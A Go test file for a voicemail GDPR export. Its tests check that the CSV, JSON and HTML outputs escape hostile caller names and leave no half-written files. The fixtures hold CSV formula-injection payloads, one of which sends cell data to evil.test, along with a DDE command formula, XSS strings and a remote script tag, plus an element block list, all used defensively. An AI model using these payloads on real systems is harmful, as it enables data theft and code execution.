package gdpr

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"github.com/genesys/voicemail"
)

func exportID(n int) voicemail.MessageID {
	return voicemail.MessageID(fmt.Sprintf("01920000-0000-7000-8000-%012d", n))
}

// exportFixture is an export with a message in every state, and with names that callers chose to do harm.
func exportFixture() (phones []Phone, rows []exportRow) {
	for _, p := range []string{"+1 (555) 123-4567", "555556161", "555551212", `"Ann & <Co>" <sip:ann@pbx.test>`} {
		phones = append(phones, NewPhone(p))
	}
	received := time.Date(2031, 2, 3, 4, 5, 6, 789e6, time.FixedZone("", 3600))
	envelope := func(n int, caller, name string) voicemail.Envelope {
		return voicemail.Envelope{
			ID: exportID(n), Mailbox: "5001", Caller: voicemail.ParseCallerID(caller).WithName(name), Called: voicemail.ParseCallerID("+15550005001"),
			ReceivedAt: received.Add(time.Duration(n) * time.Hour), Duration: 83*time.Second + 500*time.Millisecond, Size: 98_804, ContentType: "audio/wav",
			SHA256: strings.Repeat("0123456789abcdef", 4),
		}
	}
	add := func(phone, n int, name string, change func(r *exportRow)) {
		r := exportRow{Phone: phone, File: string(exportID(n)), Envelope: envelope(n, phones[phone].CallerID().Reveal(), name)}
		if change != nil {
			change(&r)
		}
		rows = append(rows, r)
	}
	add(0, 1, "Ann Exämple", func(r *exportRow) { r.Parts = []string{r.File + ".note-001.txt", r.File + ".transcript-002.vtt"} })
	add(1, 2, `=HYPERLINK("http://evil.test/?"&A1,"x")`, func(r *exportRow) { r.State.Read, r.State.Urgent = true, true })
	add(0, 3, `x;=cmd|' /C calc'!A0`, func(r *exportRow) { r.State.Trashed, r.State.Held, r.Restricted = true, true, true })
	add(0, 4, `<script>alert(1)</script>"><img src=x onerror=alert(1)>`, func(r *exportRow) { r.Pending = true; r.Envelope.Redirecting = voicemail.ParseCallerID("5550009999") })
	add(0, 5, "line\r\nbreak\x00\x1b\u202eabc, \"quoted\"", func(r *exportRow) {
		r.File, r.Problem = "", "the recording ends after 12 of 98804 bytes"
	})
	add(3, 6, "", func(r *exportRow) {
		r.Envelope = voicemail.Envelope{ID: exportID(6), ContentType: "application/octet-stream"}
		r.Foreign = true
	})
	add(1, 7, "", func(r *exportRow) {
		r.File, r.Envelope, r.Problem = "", voicemail.Envelope{ID: exportID(7), Mailbox: "Sales"}, "the metadata cannot be read"
	})
	return phones, rows
}

// exported writes an export into a directory and returns its documents.
func exported(t *testing.T, caseID string, phones []Phone, rows []exportRow) map[string]string {
	t.Helper()
	dir := t.TempDir()
	s, err := DirSink(dir)
	require.NoError(t, err)
	require.NoError(t, writeExportFiles(s, caseID, phones, rows, sinkTime))
	require.NoError(t, s.Close())
	return dirFiles(t, dir)
}

func TestTheDocumentsOfAnExportAreThoseOfTheirGoldenFiles(t *testing.T) {
	phones, rows := exportFixture()
	docs := exported(t, "case <7> & more", phones, rows)
	require.Len(t, docs, 3)
	for name, doc := range docs {
		golden(t, filepath.Join("export", name), []byte(doc))
	}
}

func TestOutputHasThePublishedShape(t *testing.T) {
	phones := []Phone{NewPhone("555556161"), NewPhone("555551212"), NewPhone("555556162")}
	row := func(phone, n int) exportRow { return exportRow{Phone: phone, File: string(exportID(n))} }
	doc := exported(t, "123456789", phones, []exportRow{row(0, 1), row(2, 2), row(0, 3)})[outputFile]
	assert.Equal(t, `{
  "caseid": "123456789",
  "consumers": {
    "555556161": ["01920000-0000-7000-8000-000000000001", "01920000-0000-7000-8000-000000000003"],
    "555551212": [],
    "555556162": ["01920000-0000-7000-8000-000000000002"]
  }
}
`, doc, "in the order of the request; a phone without messages has an empty list")
	assert.Equal(t, "{\n  \"caseid\": \"c\",\n  \"consumers\": {\n  }\n}\n", exported(t, "c", nil, nil)[outputFile])
}

func TestOutputIsJSONWhateverThePhonesAre(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		texts := rapid.SliceOf(rapid.OneOf(rapid.String(), rapid.SampledFrom([]string{"", "anonymous", "\xff", "\xfe", "\uFFFD", "\"", "\\", "\u2028"}))).Draw(t, "phones")
		caseID := rapid.String().Draw(t, "case")
		var phones []Phone
		var rows []exportRow
		want := map[string][]string{}
		for i, s := range texts {
			phones = append(phones, NewPhone(s))
			rows = append(rows, exportRow{Phone: i, File: fmt.Sprint(i)}, exportRow{Phone: i, Problem: "lost"})
			s = strings.ToValidUTF8(s, "\uFFFD")
			want[s] = append(want[s], fmt.Sprint(i))
		}
		var b bytes.Buffer
		require.NoError(t, writeOutput(&b, caseID, phones, rows))
		var got struct {
			CaseID    string `json:"caseid"`
			Consumers map[string][]string
		}
		d := json.NewDecoder(&b)
		d.DisallowUnknownFields()
		require.NoError(t, d.Decode(&got))
		require.Equal(t, caseID, got.CaseID)
		require.Equal(t, want, got.Consumers)
	})
}

func TestTheTableIsReadBack(t *testing.T) {
	phones, rows := exportFixture()
	doc := exported(t, "c", phones, rows)[tableFile]
	assert.Equal(t, len(rows)+1, strings.Count(doc, "\r\n"), "RFC 4180 ends lines so; no cell has a line break")
	assert.Equal(t, len(rows)+1, strings.Count(doc, "\n"))
	lines, err := csv.NewReader(strings.NewReader(doc)).ReadAll()
	require.NoError(t, err)
	assert.Equal(t, tableColumns[:], lines[0])
	cell := func(line int, column string) string {
		for i, name := range lines[0] {
			if name == column {
				return lines[line][i]
			}
		}
		return "no column " + column
	}
	for _, row := range []struct {
		line         int
		column, want string
		why          string
	}{
		{1, "message", string(exportID(1)), "the ID"},
		{1, "phone", "'+1 (555) 123-4567", "as it was given, and no formula"},
		{1, "caller", "+15551234567", "a number that others can compare"},
		{1, "caller_name", "Ann Exämple", "UTF-8"},
		{1, "received_at", "2031-02-03T04:05:06Z", "UTC"},
		{1, "duration_seconds", "83.5", "a point, whatever the locale"},
		{1, "read", "no", "new"},
		{2, "caller_name", `'=HYPERLINK("http://evil.test/?"&A1,"x")`, "a formula"},
		{2, "urgent", "yes", "marked"},
		{3, "caller_name", `x;'=cmd|' /C calc'!A0`, "a formula where a semicolon separates"},
		{3, "restricted", "yes", "by a forget"},
		{5, "caller_name", "line\uFFFD\uFFFDbreak\uFFFD\uFFFD\u202eabc, \"quoted\"", "no control characters"},
		{5, "file", "", "there is none"},
		{5, "problem", "the recording ends after 12 of 98804 bytes", "why"},
		{6, "read", "", "what another program knows of it is not known here"},
		{6, "foreign", "yes", "found by its tag"},
		{7, "received_at", "", "not known"},
		{7, "size_bytes", "", "not known"},
		{7, "held", "", "not known"},
	} {
		assert.Equal(t, row.want, cell(row.line, row.column), "%s: %s", row.column, row.why)
	}
}

func TestNoCellIsAFormula(t *testing.T) {
	for text, want := range map[string]string{
		"=1+1": "'=1+1", "+1+1": "'+1+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", " \t=1": " \uFFFD=1", "  =1": "  '=1", `"=1`: `"'=1`, "＝1": "'＝1", "a;b": "a;b",
		"a; @x;=y": "a; '@x;'=y", "+15551234567": "+15551234567", "+": "'+", "+1 555": "'+1 555", "+1\n": "'+1\uFFFD", "5551234567": "5551234567", "a=b": "a=b", "": "",
	} {
		assert.Equal(t, want, tableCell(text), "%q", text)
	}
	dangerous := regexp.MustCompile(`^[\s"]*[=+\-@＝＋－＠]`)
	number := regexp.MustCompile(`^\+[0-9]+$`)
	alphabet := []rune("=+-@＝＋－＠;,\"' \t\r\n\x001aé")
	rapid.Check(t, func(t *rapid.T) {
		text := rapid.StringOf(rapid.RuneFrom(alphabet)).Draw(t, "text")
		got := tableCell(text)
		if number.MatchString(got) {
			require.Equal(t, text, got)
			return
		}
		for _, part := range strings.FieldsFunc(got, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
			require.NotRegexp(t, dangerous, part)
		}
	})
}

// element is one of index.html, read as strict XML.
type element struct {
	name  string
	attrs map[string]string
	text  string
}

func elementsOf(t require.TestingT, doc string) []element {
	d := xml.NewDecoder(strings.NewReader(doc))
	var found []element
	var open []int
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			require.Empty(t, open)
			return found
		}
		require.NoError(t, err)
		switch token := token.(type) {
		case xml.StartElement:
			e := element{name: token.Name.Local, attrs: map[string]string{}}
			for _, a := range token.Attr {
				e.attrs[a.Name.Local] = a.Value
			}
			open = append(open, len(found))
			found = append(found, e)
		case xml.EndElement:
			open = open[:len(open)-1]
		case xml.CharData:
			for _, i := range open {
				found[i].text += string(token)
			}
		}
	}
}

func TestThePagePlaysEveryRecording(t *testing.T) {
	phones, rows := exportFixture()
	page := exported(t, "c", phones, rows)[pageFile]
	var articles []element
	sources := map[string]string{}
	for _, e := range elementsOf(t, page) {
		switch e.name {
		case "article":
			articles = append(articles, e)
		case "audio":
			assert.Equal(t, map[string]string{"controls": "controls", "preload": "none"}, e.attrs, "nothing is read before somebody plays it")
		case "source":
			sources[e.attrs["src"]] = e.attrs["type"]
		}
	}
	require.Len(t, articles, len(rows))
	id := func(n int) string { return "./" + string(exportID(n)) }
	assert.Equal(t, map[string]string{id(1): "audio/wav", id(2): "audio/wav", id(3): "audio/wav", id(4): "audio/wav", id(6): ""}, sources)
	for i, want := range [][]string{
		{"3 February 2031, 04:05:06 UTC", "1:24", "5001", "Ann Exämple", "+15551234567", "+15550005001", "new"},
		{"3 February 2031, 06:05:06 UTC", "in the trash, held, restricted"},
		{"<script>alert(1)</script>", "new, pending", "5550009999"},
		{"the recording ends after 12 of 98804 bytes", string(exportID(5))},
		{"=HYPERLINK", "old, urgent"},
		{"Time not known", "the metadata cannot be read", "Sales", string(exportID(7))},
		{"Time not known", "from another program"},
	} {
		for _, text := range want {
			assert.Contains(t, articles[i].text, text, "message %d", i)
		}
	}
	assert.NotContains(t, articles[6].text, "new", "it is not known whether it is")
	assert.Contains(t, page, "No messages.", "a phone without messages is on the page")
}

func TestThePageCountsAMessageOfTwoPhonesOnce(t *testing.T) {
	phones := []Phone{NewPhone("+15551234567"), NewPhone("5551234567")}
	row := func(phone, n int, problem string) exportRow {
		r := exportRow{Phone: phone, Problem: problem, Envelope: voicemail.Envelope{ID: exportID(n), Mailbox: "5001"}}
		if problem == "" {
			r.File = string(exportID(n))
		}
		return r
	}
	lost := exportRow{Phone: 0, Foreign: true, Problem: "lost"}
	page := exported(t, "c", phones, []exportRow{row(0, 1, ""), row(1, 1, ""), row(0, 2, "cut off"), row(1, 2, "cut off"), lost, lost})[pageFile]
	assert.Contains(t, page, ", 4 messages. ")
	assert.Contains(t, page, ">3 problems.<")
	assert.Equal(t, 6, strings.Count(page, "<article>"), "it is shown under both")
	assert.Contains(t, exported(t, "c", phones, []exportRow{row(0, 1, "")})[pageFile], ", 1 message.</p>")
}

func TestThePageAsksNoNetworkForAnythingAndRunsNothing(t *testing.T) {
	phones, rows := exportFixture()
	page := exported(t, `"><script src="http://evil.test/x.js"></script>`, phones, rows)[pageFile]
	for _, e := range elementsOf(t, page) {
		assert.NotContains(t, []string{"script", "img", "link", "iframe", "object", "embed", "base", "form"}, e.name)
		for name, value := range e.attrs {
			assert.False(t, strings.HasPrefix(name, "on"), name)
			if name == "src" || name == "href" {
				assert.True(t, strings.HasPrefix(value, "./"), value)
			}
		}
		if e.name == "style" {
			assert.NotContains(t, e.text, "url(")
			assert.NotContains(t, e.text, "@import")
			assert.Contains(t, e.text, "prefers-color-scheme: dark")
		}
	}
}

func TestThePageIsWellFormedWhateverACallerIsCalled(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		name, file := rapid.String().Draw(t, "name"), rapid.String().Draw(t, "file")
		rows := []exportRow{{File: file, Problem: name, Envelope: voicemail.Envelope{
			ID: "x", Mailbox: voicemail.MailboxID(name), Caller: voicemail.CallerID{}.WithName(name), ContentType: "audio/" + name, ReceivedAt: sinkTime,
		}}}
		var b bytes.Buffer
		require.NoError(t, pageTemplate.Execute(&b, newPage(name, []Phone{NewPhone(name)}, rows, sinkTime)))
		for _, e := range elementsOf(t, b.String()) {
			if href, ok := e.attrs["href"]; ok {
				u, err := url.Parse(href)
				require.NoError(t, err)
				require.Equal(t, "./"+file, u.Path)
				require.Empty(t, u.RawQuery+u.Fragment+u.Host+u.Scheme)
			}
		}
	})
}

// brokenSink fails at the n-th call of it and of its files.
type brokenSink struct {
	Sink
	left int
}

var errBroken = errors.New("broken")

func (s *brokenSink) call() error {
	if s.left--; s.left < 0 {
		return errBroken
	}
	return nil
}

func (s *brokenSink) Create(name string, at time.Time) (File, error) {
	if err := s.call(); err != nil {
		return nil, err
	}
	f, err := s.Sink.Create(name, at)
	return &brokenFile{f, s}, err
}

type brokenFile struct {
	File
	sink *brokenSink
}

func (f *brokenFile) Write(b []byte) (int, error) {
	if err := f.sink.call(); err != nil {
		return 0, err
	}
	return f.File.Write(b)
}

func (f *brokenFile) Commit() error {
	if err := f.sink.call(); err != nil {
		return errors.Join(err, f.Abort())
	}
	return f.File.Commit()
}

func TestOutputIsThereOnlyIfTheExportIsWhole(t *testing.T) {
	phones, rows := exportFixture()
	for n := 0; ; n++ {
		require.Less(t, n, 100)
		dir := t.TempDir()
		s, err := DirSink(dir)
		require.NoError(t, err)
		err = writeExportFiles(&brokenSink{s, n}, "c", phones, rows, sinkTime)
		require.NoError(t, s.Close(), "no file is left open")
		entries, dirErr := os.ReadDir(dir)
		require.NoError(t, dirErr)
		if err == nil {
			assert.Len(t, entries, 3)
			return
		}
		require.ErrorIs(t, err, errBroken)
		for _, e := range entries {
			assert.NotEqual(t, outputFile, e.Name(), "failed at call %d", n)
			assert.False(t, strings.HasPrefix(e.Name(), "."), "nothing half written is left")
		}
	}
}
